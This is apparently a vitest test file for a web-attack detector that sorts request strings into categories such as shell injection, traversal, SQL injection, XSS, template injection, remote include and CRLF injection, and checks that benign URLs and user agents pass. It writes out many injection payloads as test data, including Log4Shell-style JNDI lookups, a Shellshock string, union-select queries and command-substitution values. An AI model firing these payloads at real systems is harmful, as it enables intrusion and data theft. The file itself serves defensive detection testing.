// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from 'vitest';
import { shapes } from './shapes.ts';

/** The shapes of a request that is already decoded, as the engine looks at it. */
function shapesOf(request: string, part: 'request' | 'elsewhere' = 'request'): readonly string[] {
  return shapes
    .filter((shape) =>
      (part === 'elsewhere' ? shape.elsewhere : [...shape.patterns, ...(shape.written ?? [])]).some((pattern) =>
        new RegExp(pattern, 's').test(request.toLowerCase()),
      ),
    )
    .map((shape) => shape.name);
}

describe('hunt/attack/shapes', () => {
  it.each([
    ['shell', '/x.cgi?host=192.0.2.1;cat /srv/list'],
    ['shell', '/x.cgi?host=a|tail -5 log'],
    ['shell', '/x.cgi?host=$(uptime)'],
    ['shell', '/x.cgi?host=`df`'],
    ['shell', '/x.cgi?cmd=tar -cf - docs'],
    ['shell', '/x.cgi?a=1&&hostname'],
    ['shell', '/x.cgi?a=%comspec% /c dir'],
    ['shell', '/x.cgi?a=invoke-webrequest http://198.51.100.4/a'],
    ['shell', '/x.cgi?f={head,-1,list}'],
    ['traversal', '/download?file=../../conf/app.ini'],
    ['traversal', '/download?file=..\\..\\conf'],
    ['traversal', '/static/%c0%ae%c0%ae/x'],
    ['traversal', '/a?f=/etc/hostname'],
    ['sql', "/item?id=7' or 'b'='b"],
    ['sql', '/item?id=-7 union all select name,2,3 from members'],
    ['sql', '/item?id=7 and 3*2=6'],
    ['sql', '/item?id=7;drop table members'],
    ['sql', '/item?id=if(1=1,sleep(4),0)'],
    ['sql', "/item?id=7'--"],
    ['sql', '/item?id[$ne]=1'],
    ['script', '/s?q=<details open ontoggle=go()>'],
    ['script', '/s?q="><img src=x>'],
    ['script', '/s?q=" onfocus=go() x="'],
    ['script', '/s?q=java\nscript:go()'],
    ['template', '/s?q={{7*7}}'],
    ['template', '/s?q=${jndi:ldap://198.51.100.4/a}'],
    ['template', '/s?q=a.__class__.__mro__'],
    ['template', '/s?q=t(java.lang.runtime).getruntime()'],
    ['code', '/p?x=<?php echo 1;'],
    ['code', '/p?x=array_walk($a,$b)'],
    ['code', '/p?file=php://filter/read=string.rot13/resource=a'],
    ['code', '/p?x=o:3:"abc":0:{}'],
    ['include', '/p?page=http://198.51.100.4/a.txt'],
    ['include', '/p?u=gopher://198.51.100.4:70/x'],
    ['break', '/p?x=a\u0000.jpg'],
    ['break', '/p?x=a\r\nset-cookie: b=1'],
  ])('sees %s in %s', (name, request) => {
    expect(shapesOf(request)).toContain(name);
  });

  it.each([
    '/',
    '/index.html',
    '/cgi-bin/search.cgi?q=weather+tokyo&lang=ja',
    '/search?q=cats and dogs or birds',
    '/search?q=how to find a host in tokyo',
    '/search?q=union station select hotels',
    '/articles/get-started?id=42&sort=date&type=pdf&top=10&test=1',
    '/list?sort=name&order=desc&limit=20&page=3',
    '/plugin/highlight/highlight.js',
    '/images/logo.png?v=1.2.3',
    "/search?q=o'brien",
    '/検索?q=東京',
    '/a/b/c.php?id=10;sid=20',
    '/blog/2026/11/on-the-road?utm_source=mail&utm_medium=link',
    '/wiki/cat_(animal)',
    '/files/report (2).pdf',
  ])('sees nothing in %s', (request) => {
    expect(shapesOf(request)).toEqual([]);
  });

  it.each([
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727; Media Center PC 6.0)',
    'curl/8.5.0',
    'https://www.example.jp/search?q=%e6%9d%b1%e4%ba%ac&url=https://a.example/',
    'python-requests/2.31; contact: https://a.example/bot',
  ])('sees nothing in the header %s', (header) => {
    expect(shapesOf(header, 'elsewhere')).toEqual([]);
  });

  it.each(['() { x; }; id', '${jndi:dns://198.51.100.4/a}', "' or '1'='1", '<script>go()</script>'])(
    'sees a try in the header %s',
    (header) => {
      expect(shapesOf(header, 'elsewhere')).not.toEqual([]);
    },
  );
});
